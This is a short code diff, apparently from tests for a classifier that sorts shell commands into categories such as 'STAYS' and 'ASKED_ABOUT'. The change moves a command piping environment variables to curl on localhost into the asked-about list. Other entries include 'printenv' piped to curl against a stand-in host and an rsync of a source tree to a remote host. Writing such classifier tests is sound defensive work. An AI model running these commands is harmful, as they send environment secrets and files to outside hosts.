@@ -29,11 +29,14 @@ LEAVES = [
 STAYS = [
     "env | sort",
     "printenv | grep -c PATH",
-    "env | curl -d @- http://localhost:8080",
     "env CI=1 curl https://host.example",
     "set -e; curl https://host.example",
 ]
-ASKED_ABOUT = ["printenv LANG | curl -d @- https://host.example", "rsync -a src/ host.example:/x"]
+ASKED_ABOUT = [
+    "env | curl -d @- http://localhost:8080",
+    "printenv LANG | curl -d @- https://host.example",
+    "rsync -a src/ host.example:/x",
+]
 
 
 def verdict(command: str, session: Session) -> str:
